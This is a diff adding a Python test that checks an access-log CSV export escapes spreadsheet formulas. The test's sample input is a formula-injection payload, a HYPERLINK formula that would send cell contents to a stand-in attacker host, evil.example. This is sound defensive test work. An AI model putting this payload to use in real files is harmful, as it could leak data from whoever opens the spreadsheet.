@@ -138,3 +138,19 @@ def test_export_is_named_after_the_danish_date_and_time(request_as, uu_user, per
     assert response["Content-Disposition"] == 'attachment; filename="adgangslog-20270101-0020.csv"'
     row = response.content.decode("utf-8-sig").splitlines()[1]
     assert row.startswith("2026-12-31T23:20:")
+
+
+def test_export_neutralises_spreadsheet_formulas(request_as, uu_user, person):
+    """A purpose typed as a formula must not run when the leader opens the export in Excel."""
+    from stu_case.audit.admin import export_access_log_csv
+
+    access_log_write(
+        request=request_as(uu_user),
+        person_ids=[person.pk],
+        action=AccessAction.EXPORT,
+        purpose='=HYPERLINK("https://evil.example/?"&A1;"Klik")',
+    )
+    response = export_access_log_csv(AccessLog.objects.all())
+    row = response.content.decode("utf-8-sig").splitlines()[1]
+    assert ";\"'=HYPERLINK(" in row
+    assert ";=HYPERLINK" not in row and ';"=HYPERLINK' not in row
